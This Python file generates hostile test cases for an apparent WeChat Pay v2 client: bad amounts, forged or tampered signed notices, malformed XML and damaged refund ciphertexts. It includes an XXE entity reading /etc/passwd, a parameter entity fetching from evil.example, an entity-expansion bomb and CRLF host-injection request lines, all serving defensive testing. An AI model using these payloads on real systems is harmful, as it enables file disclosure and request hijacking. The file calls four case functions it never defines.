"""The cases of hostile.json: what must be refused and how, and what must be taken although it looks odd.

What is expected is written down from the documents (core/docs/verbs.md, the protocol), not from a run.
"""

import base64
import json
from pathlib import Path

from sealed import (
    APPID, EXAMPLE_KEY, KEY, MCHID, OPENID, encrypted, payment, sealed, sign, signed, without, xml,
)

IDENTITY = Path(__file__).parent / "../../core/tests/data/identity"


def cases() -> list:
    """All cases, those of one class together."""
    parts = [
        amounts, types, names, operations, authentication, other_messages, markup, taken, meaning, refund_notices,
        answers, outgoing, nothing_there, configuration,
    ]
    return [case for part in parts for case in part()]


def _case(kind: str, name: str, op: str, *, engine: bool = False, fails=None, **more) -> dict:
    case = {"name": name, "class": kind, "op": op}
    if engine:
        case["engine"] = True
    case.update(more)
    if fails is not None:
        case["fails"] = fails
    return case


def _error(kind: str, field: str | None = None, advice: str | None = None, **more) -> dict:
    error = {"kind": kind, "field": field, **more}
    return {**error, "advice": advice} if advice else error


def _input(field: str) -> dict:
    return _error("Input", field, "never")


# --- What crosses the boundary between languages --------------------------------------------------

NATIVE = {"out_trade_no": "HOSTILE-0001", "kind": "native", "total": 100, "description": "tea"}


def _order(kind: str, name: str, field: str, /, **changes) -> dict:
    params = {key: value for key, value in {**NATIVE, **changes}.items() if value is not ...}
    return _case(kind, name, "order.place", engine=True, params=params, fails=_input(field))


def amounts():
    kind = "boundary: amounts"
    odd = {
        "text": "100", "text in yuan": "1.00", "a float": 12.5, "a small float": 0.1, "true": True, "false": False,
        "nothing": 0, "negative": -1, "more than a billion yuan": 100000000001, "beyond 2^53": 9007199254740993,
        "beyond 2^64": 100000000000000000000, "beyond every integer, negative": -100000000000000000000,
        "null": None, "absent": ..., "a list": [100], "an object": {"fen": 100}, "an empty text": "",
    }
    for what, value in odd.items():
        yield _order(kind, f"an amount that is {what}", "total", total=value)
    refund = {"out_trade_no": "HOSTILE-0001", "out_refund_no": "HOSTILE-0001-1"}
    payout = {"number": "HOSTILE0001", "openid": OPENID, "description": "prize"}
    for what, value in {"text": "100", "a float": 99.5, "true": True, "null": None, "nothing": 0}.items():
        yield _case(kind, f"a refund of an amount that is {what}", "refund.place", engine=True,
                    params={**refund, "amount": value}, fails=_input("amount"))
        yield _case(kind, f"a transfer of an amount that is {what}", "transfer.place", engine=True,
                    params={**payout, "amount": value}, fails=_input("amount"))


def types():
    kind = "boundary: types"
    yield _order(kind, "a number of an order that is a number", "out_trade_no", out_trade_no=20261120001)
    yield _order(kind, "a number of an order that is null", "out_trade_no", out_trade_no=None)
    yield _order(kind, "a number of an order that is not there", "out_trade_no", out_trade_no=...)
    yield _order(kind, "a number of an order that is empty", "out_trade_no", out_trade_no="")
    yield _order(kind, "a number of an order that is too short", "out_trade_no", out_trade_no="short")
    yield _order(kind, "a number of an order that is too long", "out_trade_no", out_trade_no="1" * 33)
    yield _order(kind, "a number of an order with a blank", "out_trade_no", out_trade_no="HOSTILE 0001")
    yield _order(kind, "a number of an order with a line break", "out_trade_no", out_trade_no="HOSTILE-0001\n")
    yield _order(kind, "a number of an order in Chinese", "out_trade_no", out_trade_no="订单号一二三")
    yield _order(kind, "a number of an order with digits of another script", "out_trade_no", out_trade_no="１２３４５６")
    yield _order(kind, "a number of an order with a NUL", "out_trade_no", out_trade_no="HOSTILE\0-0001")
    yield _order(kind, "a description that is false", "description", description=False)
    yield _order(kind, "a description with a NUL", "description", description="tea\0")
    yield _order(kind, "a description with an escape", "description", description="tea\x1b[0m")
    yield _order(kind, "a description with U+FFFE", "description", description="tea\ufffe")
    yield _order(kind, "a description of 128 bytes", "description", description="茶" * 42 + "ab")
    yield _order(kind, "a description beyond every limit", "description", description="a" * 8193)
    yield _order(kind, "a kind that is WeChat Pay's word", "kind", kind="JSAPI")
    yield _order(kind, "a kind that is empty", "kind", kind="")
    yield _order(kind, "a kind that is a number", "kind", kind=7)
    yield _order(kind, "a flag that is text", "profit_sharing", profit_sharing="Y")
    yield _order(kind, "a flag that is a number", "receipt", receipt=1)
    yield _order(kind, "an object that is text", "detail", detail="{}")
    yield _order(kind, "an object that is a list", "detail", detail=[])
    yield _order(kind, "a duration that is text", "expires_s", expires_s="7200")
    yield _order(kind, "a duration that is a fraction", "expires_s", expires_s=7200.5)
    yield _order(kind, "a duration that is negative", "expires_s", expires_s=-7200)
    yield _order(kind, "a duration that is too short", "expires_s", expires_s=119)
    yield _order(kind, "a duration that is too long", "expires_s", expires_s=604801)
    yield _order(kind, "a currency in small letters", "currency", currency="cny")
    yield _order(kind, "an address for notices without TLS", "notify_url", notify_url="http://shop.example/notice")
    yield _order(kind, "an address for notices with a query", "notify_url", notify_url="https://shop.example/notice?a=1")
    yield _order(kind, "a JSAPI order without an openid", "openid", kind="jsapi")
    yield _order(kind, "an order by code without a code", "auth_code", kind="payment_code")
    yield _order(kind, "a merchant that is not configured", "mchid", mchid="1900000999")
    yield _order(kind, "an app that the merchant has not", "appid", appid="wx0000000000000000")
    yield _order(kind, "a sub-merchant of somebody who serves none", "sub_mchid", sub_mchid="1900000210")
    yield _case(kind, "ids that are one text", "event.done", engine=True, params={"ids": "x"}, fails=_input("ids"))
    yield _case(kind, "ids that are numbers", "event.done", engine=True, params={"ids": [1]}, fails=_input("ids"))
    yield _case(kind, "ids with a null", "event.done", engine=True, params={"ids": ["x", None]}, fails=_input("ids"))
    yield _case(kind, "ids that nobody gave", "event.done", engine=True, params={"ids": ["x"]}, gives={"done": 0})
    yield _case(kind, "a limit that is text", "event.take", engine=True, params={"limit": "5"}, fails=_input("limit"))
    yield _case(kind, "a limit that is a fraction", "task.tick", engine=True, params={"limit": 1.5}, fails=_input("limit"))
    yield _case(kind, "headers that are text", "notice.receive", engine=True, params={"headers": "a: b"}, blob="<xml></xml>",
                fails=_input("headers"))
    deep = "bottom"
    for _ in range(10):
        deep = {"a": [deep]}
    fields = {"deep": json.dumps(deep, separators=(",", ":"))}
    yield _case(kind, "a value nested deeply is signed as its JSON text", "v2.sign",
                params={"params": {"deep": deep}, "key": EXAMPLE_KEY}, gives={"sign": sign(fields, EXAMPLE_KEY)})
    fields = {"total_fee": "9007199254740991", "minus": "-1", "zero": "0"}
    yield _case(kind, "whole numbers are signed with all their digits", "v2.sign",
                params={"params": {"total_fee": 9007199254740991, "minus": -1, "zero": 0, "none": None}, "key": EXAMPLE_KEY},
                gives={"sign": sign(fields, EXAMPLE_KEY)})
    fields = {"body": "a\tb\r\nc 😀 \u2028 \u0301 ÿ"}
    yield _case(kind, "text is signed byte for byte", "v2.sign",
                params={"params": fields, "key": EXAMPLE_KEY}, gives={"sign": sign(fields, EXAMPLE_KEY)})
    for what, value in {"a float": 12.5, "true": True, "beyond 2^64": 100000000000000000000}.items():
        yield _case(kind, f"a field to sign that is {what}", "v2.sign",
                    params={"params": {"total_fee": value}, "key": EXAMPLE_KEY}, fails=_input("total_fee"))
        yield _case(kind, f"a field of a raw operation that is {what}", "POST /pay/unifiedorder", engine=True,
                    params={"body": "tea", "out_trade_no": "HOSTILE-0001", "total_fee": value}, fails=_input("total_fee"))


def names():
    kind = "boundary: names"
    for name in ["total_fee", "Total", "total ", "", "__proto__", "constructor", "out_trade_no\0", "金额"]:
        yield _order(kind, f"a parameter named {json.dumps(name, ensure_ascii=False)}", name, **{name: "x"})
    for what, params in {"a list": [], "text": "out_trade_no", "a number": 7, "true": True}.items():
        yield _case(kind, f"parameters of an order that are {what}", "order.place", engine=True, params=params,
                    fails=_input("params"))
        yield _case(kind, f"parameters of a tool that are {what}", "v2.sign", params=params, fails=_input("params"))
    yield _case(kind, "parameters that are null are none", "order.place", engine=True, params=None, fails=_input("out_trade_no"))
    yield _case(kind, "no parameters where some are needed", "v2.sign", fails=_input("params"))
    yield _case(kind, "a parameter of a verb that takes none", "ledger.verify", engine=True, params={"deep": True},
                fails=_input("deep"))
    yield _case(kind, "no blob where one is needed", "v2.decode", fails=_input("blob"))
    yield _case(kind, "no body of a notice", "notice.receive", engine=True, fails=_input("blob"))
    yield _case(kind, "a field named key, in the toolbox", "v2.sign", params={"params": {"key": "x"}, "key": EXAMPLE_KEY}, fails=_input("key"))
    yield _case(kind, "a key that is empty, in the toolbox", "v2.sign", params={"params": {"a": "1"}, "key": ""}, fails=_input("key"))
    yield _case(kind, "a key that is null, in the toolbox", "v2.verify", params={"params": {"a": "1"}, "key": None}, fails=_input("key"))
    yield _case(kind, "an algorithm that does not exist, in the toolbox", "v2.sign",
                params={"params": {"a": "1"}, "key": EXAMPLE_KEY, "sign_type": "SHA1"}, fails=_input("sign_type"))
    yield _case(kind, "an algorithm in small letters, in the toolbox", "v2.verify",
                params={"params": {"a": "1"}, "key": EXAMPLE_KEY, "sign_type": "md5"}, fails=_input("sign_type"))
    for name in ["a b", "1a", "", "a:b", "<a>", "a" * 65, "金额"]:
        shown = json.dumps(name[:8], ensure_ascii=False)
        yield _case(kind, f"a field to write that is named {shown}", "v2.encode", params={"params": {name: "1"}}, fails=_input(name))
    yield _case(kind, "a field to write with a NUL", "v2.encode", params={"params": {"a": "\0"}}, fails=_input("a"))
    yield _case(kind, "a field to write with a flag", "v2.encode", params={"params": {"a": True}}, fails=_input("a"))
    wire = "<xml><a><![CDATA[x]]]]><![CDATA[>y&<z]]></a></xml>"
    yield _case(kind, "a value that ends CDATA is written in two", "v2.encode", params={"params": {"a": "x]]>y&<z"}},
                gives={"bytes": len(wire)}, file=wire)


def operations():
    kind = "boundary: operations"
    for name in ["order.steal", "ORDER.PLACE", "order", "", "order.", ".place", "constructor", "order.place\0", "v2.decrypt"]:
        yield _case(kind, f"an operation named {json.dumps(name)}", name, engine=True, fails=_error("Missing", None, "never"))
    for line in [
        "POST pay/orderquery", "PUT /pay/orderquery", "post /pay/orderquery", "POST /pay/orderquery?a=1",
        "POST /pay/../secapi/pay/refund", "POST //evil.example/pay/orderquery", "POST https://evil.example/pay/orderquery",
        "POST /pay/orderquery\r\nHost: evil.example", "POST /v3/pay/transactions/jsapi", "order.place ", "POST ",
    ]:
        yield _case(kind, f"a request line {json.dumps(line)}", line, engine=True, params={}, fails=_input("operation"))
    query = {"out_trade_no": "HOSTILE-0001"}
    for name, value in {"sign": "X", "key": "X", "mch_id": "1900000999", "sign_type": "MD5"}.items():
        yield _case(kind, f"a raw operation with its own {name}", "POST /pay/orderquery", engine=True,
                    params={**query, name: value}, fails=_input(name))
    yield _case(kind, "a raw operation whose parameters are a list", "POST /pay/orderquery", engine=True, params=[], fails=_input("params"))
    yield _case(kind, "a raw operation without what it requires", "POST /tools/shorturl", engine=True, params={}, fails=_input("long_url"))
    yield _case(kind, "a raw operation with two answers to one question", "http.prepare", engine=True,
                params={"operation": "POST /pay/unifiedorder", "params": {
                    "out_trade_no": "HOSTILE-0001", "total_fee": 100, "body": "tea", "spbill_create_ip": "127.0.0.1",
                    "notify_url": "https://shop.example/n?a=1", "trade_type": "NATIVE", "product_id": "1"}},
                fails=_input("notify_url"))


# --- Messages that say that they are WeChat Pay's -------------------------------------------------

def _opened(name: str, blob: str, fails=None, gives=None, *, key: str = KEY, sign_type: str | None = None, kind="v2 authentication") -> dict:
    params = {"mch_id": MCHID, "key": key}
    if sign_type:
        params["sign_type"] = sign_type
    case = _case(kind, name, "v2.open_notice", params=params, blob=blob, fails=fails)
    return {**case, "gives": gives} if gives is not None else case


def _forged(field: str | None) -> dict:
    return _error("Forged", field, "never")


def authentication():
    paid = payment("HOSTILE-0001")
    right = sign(paid, KEY)
    with_sign = lambda text: xml({**paid, "sign": text})
    yield _opened("a good notice", sealed(paid), gives={
        "kind": "payment", "verified_by": "HMAC-SHA256", "ambiguous": False, "fields": signed(paid)})
    yield _opened("a good notice signed with MD5", sealed(paid, algorithm="MD5"), sign_type="MD5", gives={
        "kind": "payment", "verified_by": "MD5", "fields": {"sign": sign(paid, KEY, "MD5")}})
    yield _opened("sign missing", xml(paid), _forged("sign"))
    yield _opened("sign empty", with_sign(""), _forged("sign"))
    yield _opened("sign a blank", with_sign(" "), _forged("sign"))
    yield _opened("sign in small letters", with_sign(right.lower()), _forged("sign"))
    yield _opened("sign with a blank before", with_sign(" " + right), _forged("sign"))
    yield _opened("sign with a line break behind", with_sign(right + "\n"), _forged("sign"))
    yield _opened("sign cut short", with_sign(right[:-1]), _forged("sign"))
    yield _opened("sign too long", with_sign(right + "0"), _forged("sign"))
    yield _opened("the first half of sign", with_sign(right[:32]), _forged("sign"))
    yield _opened("sign of zeros", with_sign("0" * 64), _forged("sign"))
    yield _opened("sign that is null", with_sign("null"), _forged("sign"))
    yield _opened("sign twice, the right one first", sealed(paid).replace("</xml>", f"<sign>{'0' * 64}</sign></xml>"), _error("Wire", None, "never"))
    yield _opened("sign twice, the right one last", sealed(paid).replace("<xml>", f"<xml><sign>{'0' * 64}</sign>"), _error("Wire", None, "never"))
    yield _opened("sign under another name of case", sealed(paid).replace("sign>", "Sign>"), _forged("sign"))
    yield _opened("signed with MD5 where HMAC-SHA256 is expected", sealed(paid, algorithm="MD5"), _forged("sign"))
    yield _opened("signed with HMAC-SHA256 where MD5 is expected", sealed(paid), _forged("sign"), sign_type="MD5")
    weaker = {**paid, "sign_type": "MD5"}
    yield _opened("the message asks for MD5 and is signed with it", sealed(weaker, algorithm="MD5"), _forged("sign"))
    yield _opened("the message asks for MD5 and is signed with HMAC-SHA256", sealed(weaker), _forged("sign_type"))
    yield _opened("the message names the algorithm that is expected", sealed({**paid, "sign_type": "HMAC-SHA256"}), gives={"kind": "payment"})
    yield _opened("an empty sign_type is not signed", xml({**paid, "sign_type": "", "sign": right}), gives={"kind": "payment"})
    yield _opened("signed with another key", sealed(paid, EXAMPLE_KEY), _forged("sign"))
    yield _opened("signed with the key in capitals", sealed(paid, KEY.upper()), _forged("sign"))
    yield _opened("signed with no key", sealed(paid, ""), _forged("sign"))
    yield _opened("the key is empty", sealed(paid, ""), _input("key"), key="")
    yield _opened("a field changed", sealed(paid).replace("<total_fee>100<", "<total_fee>1<"), _forged("sign"))
    yield _opened("a field added", sealed(paid).replace("<xml>", "<xml><coupon_fee>1</coupon_fee>"), _forged("sign"))
    yield _opened("an empty field added is not signed", sealed(paid).replace("<xml>", "<xml><coupon_fee></coupon_fee>"), gives={"kind": "payment"})
    yield _opened("a field taken out", sealed(paid).replace("<fee_type><![CDATA[CNY]]></fee_type>", ""), _forged("sign"))
    yield _opened("a blank added to a value", sealed(paid).replace("[NATIVE]", "[NATIVE ]"), _forged("sign"))
    yield _opened("a line break added beside CDATA", sealed(paid).replace("<trade_type><![", "<trade_type>\n<!["), _forged("sign"))
    yield _opened("values of two fields swapped", sealed({**paid, "attach": "1"}).replace("<total_fee>100<", "<total_fee>1<").replace("<attach>1<", "<attach>100<"), _forged("sign"))
    yield _opened("a field named key", sealed({**paid, "key": KEY}), _forged("key"))
    yield _opened("the message names no merchant", sealed(without(paid, "mch_id")), _forged("mch_id"))
    yield _opened("the message names another merchant", sealed({**paid, "mch_id": "1900000999"}), _forged("mch_id"))
    yield _opened("the message names the merchant with a blank", sealed({**paid, "mch_id": MCHID + " "}), _forged("mch_id"))
    yield _opened("a probe of WeChat Pay's", with_sign("WECHATPAY/SIGNTEST/" + right), _error("Probe", "sign", "never"))
    recut = {**paid, "attach": "a&bank_type=CMB", "bank_type": ""}
    yield _opened("a value that holds another field is marked", sealed(recut), gives={
        "kind": "payment", "ambiguous": True, "fields": {"attach": "a&bank_type=CMB", "bank_type": ""}})
    for name, fields, fails in [
        ("a message verified as it was published", {"a": "1"}, None),
        ("a message without sign", {"a": "1"}, _forged("sign")),
        ("a message with a sign of a wrong type", {"a": "1"}, _input("sign")),
    ]:
        params = {"params": signed(fields) if fails is None else fields, "key": KEY}
        if fails == _input("sign"):
            params = {"params": {**fields, "sign": True}, "key": KEY}
        case = _case("v2 authentication", name, "v2.verify", params=params, fails=fails)
        yield case if fails else {**case, "gives": {"verified_by": "HMAC-SHA256"}}
    engine = lambda name, blob, fails: _case("v2 authentication", name, "notice.receive", engine=True, blob=blob, fails=fails)
    # Every refusal has the answer that asks for the notice again, which is what WeChat Pay must get.
    again = {"status": 200, "body": "<xml><return_code><![CDATA[FAIL]]></return_code><return_msg><![CDATA[Forged]]></return_msg></xml>"}
    yield engine("an engine answers a forged notice with FAIL", sealed(paid, EXAMPLE_KEY), {**_forged("sign"), "reply": again})
    yield engine("an engine has no such merchant", sealed({**paid, "mch_id": "1900000999"}), _forged("mch_id"))
    yield engine("an engine takes MD5 from nobody who said HMAC-SHA256", sealed(paid, algorithm="MD5"), _forged("sign"))
    yield engine("a notice that another program parsed", json.dumps(paid), _error("Wire", None, "never"))
    yield engine("a notice that another program printed", "b'<xml></xml>'", _error("Wire", None, "never"))
    yield engine("a notice as a form", "return_code=SUCCESS&mch_id=" + MCHID, _error("Wire", None, "never"))
    yield engine("an empty notice", "", _error("Wire", None, "never"))


def other_messages():
    """What verifies under the merchant's key, but is no notice (P20)."""
    kind = "v2 authentication: one message for another"
    paid = payment("HOSTILE-0001")
    identity = {"appid": APPID, "mch_id": MCHID, "nonce_str": "n"}
    done = {"return_code": "SUCCESS", "result_code": "SUCCESS", **identity}
    others = {
        "our own order": {**identity, "body": "tea", "out_trade_no": "HOSTILE-0001", "total_fee": "100",
                          "spbill_create_ip": "127.0.0.1", "notify_url": "https://shop.example/n", "trade_type": "NATIVE"},
        "our own query": {**identity, "out_trade_no": "HOSTILE-0001"},
        "our own refund": {**identity, "out_trade_no": "HOSTILE-0001", "out_refund_no": "R", "total_fee": "100", "refund_fee": "100",
                           "transaction_id": "4200001234202611201234512345"},
        "the answer to an order": {**done, "prepay_id": "wx2018", "trade_type": "NATIVE"},
        "the answer to a query": {**paid, "trade_state": "SUCCESS", "trade_state_desc": "支付成功"},
        "the answer to a payment code": {**paid, "trade_type": "MICROPAY"},
        "the answer to a refund": {**done, "transaction_id": "42", "out_trade_no": "HOSTILE-0001", "out_refund_no": "R",
                                   "refund_id": "50", "refund_fee": "100", "total_fee": "100"},
        "the answer to a reversal": {**done, "recall": "N"},
        "the answer to a close": {**done, "result_msg": "OK"},
        "parameters of a page": {"appId": APPID, "mch_id": MCHID, "timeStamp": "1", "nonceStr": "n", "package": "prepay_id=wx", "signType": "HMAC-SHA256"},
        "a static code": {**identity, "product_id": "1", "time_stamp": "1"},
        "a payment that failed": {**paid, "result_code": "FAIL"},
        "a message that failed": {**paid, "return_code": "FAIL"},
        "a return_code in small letters": {**paid, "return_code": "success"},
        "a payment without a transaction": without(paid, "transaction_id"),
        "a payment without an order": without(paid, "out_trade_no"),
        "a payment without an amount": without(paid, "total_fee"),
        "a payment with an empty transaction": {**paid, "transaction_id": ""},
    }
    for what, fields in others.items():
        yield _opened(f"{what}, sent back as a notice", sealed(fields), _forged(None), kind=kind)


def markup():
    """Everything in which two readers of XML could disagree is refused (P19)."""
    kind = "v2 xml"
    bodies = {
        "nothing": "", "a blank": " ", "text": "SUCCESS", "a number": "7", "JSON": '{"xml":{}}', "a page": "<html><body>502</body></html>",
        "another root": "<root><a>1</a></root>", "a root of other case": "<XML><a>1</a></XML>", "two roots": "<xml><a>1</a></xml><xml></xml>",
        "text behind the root": "<xml><a>1</a></xml>x", "text before the root": "x<xml><a>1</a></xml>", "an open root": "<xml><a>1</a>",
        "an open element": "<xml><a>1</xml>", "an element that ends under another name": "<xml><a>1</b></xml>",
        "a DOCTYPE": "<!DOCTYPE xml><xml><a>1</a></xml>",
        "an external entity": '<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><a>&e;</a></xml>',
        "an expansion bomb": '<!DOCTYPE xml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><xml><a>&c;</a></xml>',
        "a parameter entity": '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><xml><a>1</a></xml>',
        "an unknown entity": "<xml><a>&nbsp;</a></xml>", "an entity that does not end": "<xml><a>&amp</a></xml>",
        "a bare ampersand": "<xml><a>a & b</a></xml>", "a reference to NUL": "<xml><a>&#0;</a></xml>",
        "a reference to a control character": "<xml><a>&#x8;</a></xml>", "a reference to a surrogate": "<xml><a>&#xD800;</a></xml>",
        "a reference to U+FFFE": "<xml><a>&#xFFFE;</a></xml>", "a reference beyond Unicode": "<xml><a>&#x110000;</a></xml>",
        "a reference with a sign": "<xml><a>&#+65;</a></xml>", "an element twice": "<xml><a>1</a><a>1</a></xml>",
        "an element twice with other values": "<xml><a>1</a><b>2</b><a>3</a></xml>", "an element inside another": "<xml><a><b>1</b></a></xml>",
        "an attribute": '<xml><a b="1">1</a></xml>', "an attribute of the root": '<xml version="2"><a>1</a></xml>',
        "a prefix": "<xml><n:a>1</n:a></xml>", "a namespace": '<xml xmlns="http://a.example"><a>1</a></xml>',
        "a comment": "<xml><!-- a --><a>1</a></xml>", "a comment inside a value": "<xml><a>1<!-- a -->2</a></xml>",
        "a comment before the root": "<!-- a --><xml><a>1</a></xml>", "a processing instruction": "<xml><?php echo 1 ?><a>1</a></xml>",
        "CDATA outside of an element": "<xml><![CDATA[1]]><a>1</a></xml>", "text beside elements": "<xml>text<a>1</a></xml>",
        "text before CDATA": "<xml><a>1<![CDATA[2]]></a></xml>", "text behind CDATA": "<xml><a><![CDATA[1]]>2</a></xml>",
        "CDATA split without need": "<xml><a><![CDATA[1]]><![CDATA[2]]></a></xml>", "CDATA that does not end": "<xml><a><![CDATA[1</a></xml>",
        "the end of CDATA in text": "<xml><a>1]]>2</a></xml>", "CDATA in small letters": "<xml><a><![cdata[1]]></a></xml>",
        "a control character": "<xml><a>\x01</a></xml>", "a NUL": "<xml><a>\0</a></xml>", "a control character in CDATA": "<xml><a><![CDATA[\x0b]]></a></xml>",
        "U+FFFF": "<xml><a>\uffff</a></xml>", "a name that begins with a digit": "<xml><1a>1</1a></xml>",
        "a name with a blank": "<xml>< a>1</a></xml>", "a name in Chinese": "<xml><金额>1</金额></xml>", "a name that is too long": f"<xml><{'a' * 65}>1</{'a' * 65}></xml>",
        "an empty name": "<xml><>1</></xml>", "too many elements": "<xml>" + "".join(f"<a{n}>1</a{n}>" for n in range(513)) + "</xml>",
        "version 1.1": '<?xml version="1.1"?><xml><a>1</a></xml>', "an encoding that is not UTF-8": '<?xml version="1.0" encoding="GBK"?><xml><a>1</a></xml>',
        "UTF-7": '<?xml version="1.0" encoding="UTF-7"?><xml><a>1</a></xml>', "two declarations": '<?xml version="1.0"?><?xml version="1.0"?><xml></xml>',
        "two byte order marks": "\ufeff\ufeff<xml><a>1</a></xml>",
    }
    for what, body in bodies.items():
        yield _case(kind, f"a message with {what}", "v2.decode", blob=body, fails=_error("Wire"))
    raw = {
        "bytes that are not UTF-8": b"<xml><a>\xff\xfe</a></xml>", "an overlong character": b"<xml><a>\xc0\xbc</a></xml>",
        "a surrogate in bytes": b"<xml><a>\xed\xa0\x80</a></xml>", "GBK": "<xml><a>茶</a></xml>".encode("gbk"),
        "UTF-16": "<xml><a>1</a></xml>".encode("utf-16"), "a cut character": b"<xml><a>\xe8\x8c</a></xml>",
        "a gzip": bytes([0x1F, 0x8B, 8, 0, 0, 0, 0, 0]),
    }
    for what, body in raw.items():
        yield _case(kind, f"a message in {what}", "v2.decode", blob_base64=base64.b64encode(body).decode(), fails=_error("Wire"))


def taken():
    """What must be taken although it looks odd: WeChat Pay sends it, or may."""
    kind = "v2 xml: what must be taken"
    texts = {
        "no element": ("<xml></xml>", {}), "an empty root": ("<xml/>", {}), "an empty element": ("<xml><a/><b></b></xml>", {"a": "", "b": ""}),
        "white space between elements": ("<xml>\n  <a>1</a>\r\n\t<b>2</b>\n</xml>\n", {"a": "1", "b": "2"}),
        "text and CDATA": ("<xml><a>1</a><b><![CDATA[2]]></b></xml>", {"a": "1", "b": "2"}),
        "a declaration": ('<?xml version="1.0" encoding="UTF-8"?><xml><a>1</a></xml>', {"a": "1"}),
        "white space before the declaration": ('\n<?xml version="1.0"?>\n<xml><a>1</a></xml>', {"a": "1"}),
        "a byte order mark": ("\ufeff<xml><a>1</a></xml>", {"a": "1"}),
        "the five entities": ("<xml><a>&amp;&lt;&gt;&quot;&apos;</a></xml>", {"a": "&<>\"'"}),
        "references to characters": ("<xml><a>&#x8336;&#33590;&#10;</a></xml>", {"a": "茶茶\n"}),
        "markup in CDATA": ("<xml><a><![CDATA[<b>&amp;</b>]]></a></xml>", {"a": "<b>&amp;</b>"}),
        "the end of CDATA in two": ("<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a></xml>", {"a": "x]]>y"}),
        "blanks kept": ("<xml><a>  1 </a><b><![CDATA[ 2\r\n]]></b></xml>", {"a": "  1 ", "b": " 2\r\n"}),
        "coupons by number": ("<xml><coupon_fee_0>1</coupon_fee_0><coupon_id_$1>2</coupon_id_$1></xml>", {"coupon_fee_0": "1", "coupon_id_$1": "2"}),
        "a field that nobody knows": ("<xml><brand_new>1</brand_new></xml>", {"brand_new": "1"}),
        "an emoji and a combining mark": ("<xml><a>😀e\u0301</a></xml>", {"a": "😀e\u0301"}),
        "names that differ in case": ("<xml><a>1</a><A>2</A></xml>", {"a": "1", "A": "2"}),
        "__proto__": ("<xml><__proto__>1</__proto__><constructor>2</constructor></xml>", {"__proto__": "1", "constructor": "2"}),
    }
    for what, (body, fields) in texts.items():
        yield _case(kind, f"a message with {what}", "v2.decode", blob=body, gives={"params": fields})
    paid = signed(payment("HOSTILE-0001", attach="a b\n茶 <&>"))
    shuffled = dict(sorted(paid.items(), key=lambda field: field[0][::-1]))
    pretty = "<xml>\n" + "".join(f"  <{name}><![CDATA[{value}]]></{name}>\n" for name, value in shuffled.items()) + "</xml>\n"
    yield _opened("a notice shuffled and printed prettily", pretty, gives={"kind": "payment", "fields": paid}, kind=kind)
    yield _opened("a notice with a field that nobody knows", sealed(payment("HOSTILE-0001", brand_new="1")), gives={"kind": "payment", "fields": {"brand_new": "1"}}, kind=kind)


def meaning():
    """Authentic messages whose values are odd: nothing is guessed."""
    kind = "meaning"
    again = "<xml><return_code><![CDATA[FAIL]]></return_code><return_msg><![CDATA[Wire]]></return_msg></xml>"
    for what, text in {
        "a leading zero": "0100", "a sign": "+100", "a minus": "-100", "yuan": "1.00", "an exponent": "1e2", "a blank": " 100", "hex": "0x64",
        "a separator": "1,000", "digits of another script": "１００", "nothing": "0", "more than a billion yuan": "100000000001",
        "more than any integer": "99999999999999999999", "words": "NaN",
    }.items():
        yield _case(kind, f"a payment whose amount has {what}", "notice.receive", engine=True, blob=sealed(payment("HOSTILE-0001", text)),
                    fails={**_error("Wire", "total_fee"), "reply": {"status": 200, "body": again}})
    yield _case(kind, "a payment of an order that is not known here", "notice.receive", engine=True,
                blob=sealed(payment("HOSTILE-9001")),
                gives={"outcome": "incident", "incident": "unknown_order", "new": True,
                       "payment": {"out_trade_no": "HOSTILE-9001", "total": 100}, "reply": {"status": 200}})
    yield _case(kind, "an ambiguous payment of an order that is not known here", "notice.receive", engine=True,
                blob=sealed(payment("HOSTILE-9002", attach="a&fee_type=CNY", fee_type="")), fails=_forged(None))


REFUND = {
    "out_refund_no": "HOSTILE-0001-1", "out_trade_no": "HOSTILE-0001", "refund_account": "REFUND_SOURCE_RECHARGE_FUNDS",
    "refund_fee": "100", "refund_id": "50000000000000000000000000001", "refund_recv_accout": "支付用户零钱",
    "refund_request_source": "API", "refund_status": "SUCCESS", "settlement_refund_fee": "100", "settlement_total_fee": "100",
    "success_time": "2026-11-20 12:00:01", "total_fee": "100", "transaction_id": "4200001234202611201234512345",
}


def refund_notices():
    kind = "v2 refund notices"
    outer = {"return_code": "SUCCESS", "appid": APPID, "mch_id": MCHID, "nonce_str": "n"}
    inner = xml(REFUND, "root")
    notice = lambda secret: xml({**outer, "req_info": secret})
    good = encrypted(inner)
    blocks = base64.b64decode(good)
    spliced = base64.b64encode(blocks[:32] + blocks[48:64] + blocks[32:48] + blocks[64:]).decode()
    flipped = base64.b64encode(blocks[:-1] + bytes([blocks[-1] ^ 1])).decode()
    cut = base64.b64encode(blocks[:-16]).decode()
    odd = base64.b64encode(blocks[:-5]).decode()
    sealed_error = _error("Sealed", "req_info", "never")
    yield _opened("a refund notice opens", notice(good), gives={"kind": "refund", "verified_by": "AES-256-ECB", "fields": REFUND}, kind=kind)
    folded = "\n".join(good[at:at + 64] for at in range(0, len(good), 64))
    yield _opened("a refund notice folded at 64 opens", notice(folded), gives={"kind": "refund", "fields": REFUND}, kind=kind)
    for what, secret in {
        "of another key": encrypted(inner, EXAMPLE_KEY), "whose last byte is changed": flipped, "without its last block": cut,
        "of half a block": odd, "whose blocks are swapped": spliced, "that is not base64": "!!!!", "of no block": "AAAA",
        "with a DOCTYPE inside": encrypted("<!DOCTYPE root>" + inner), "with another root inside": encrypted(xml(REFUND)),
        "with an element twice inside": encrypted(inner.replace("<root>", "<root><refund_fee>1</refund_fee>")),
        "with a comment inside": encrypted(inner.replace("<root>", "<root><!-- -->")),
        "without a refund's number inside": encrypted(xml(without(REFUND, "out_refund_no"), "root")),
        "without an amount inside": encrypted(xml(without(REFUND, "refund_fee"), "root")),
        "without a state inside": encrypted(xml(without(REFUND, "refund_status"), "root")),
        "with bytes that are not UTF-8 inside": encrypted(b"<root><a>\xff</a></root>"), "with nothing inside": encrypted(""),
    }.items():
        yield _opened(f"a refund notice {what}", notice(secret), sealed_error, kind=kind)
    yield _opened("a refund notice that says FAIL", xml({**outer, "return_code": "FAIL", "req_info": good}), _forged("return_code"), kind=kind)
    yield _opened("a refund notice of another merchant", xml({**outer, "mch_id": "1900000999", "req_info": good}), _forged("mch_id"), kind=kind)
    yield _opened("a refund notice with a sign", xml({**outer, "req_info": good, "sign": "0" * 64}), _forged("sign"), kind=kind)
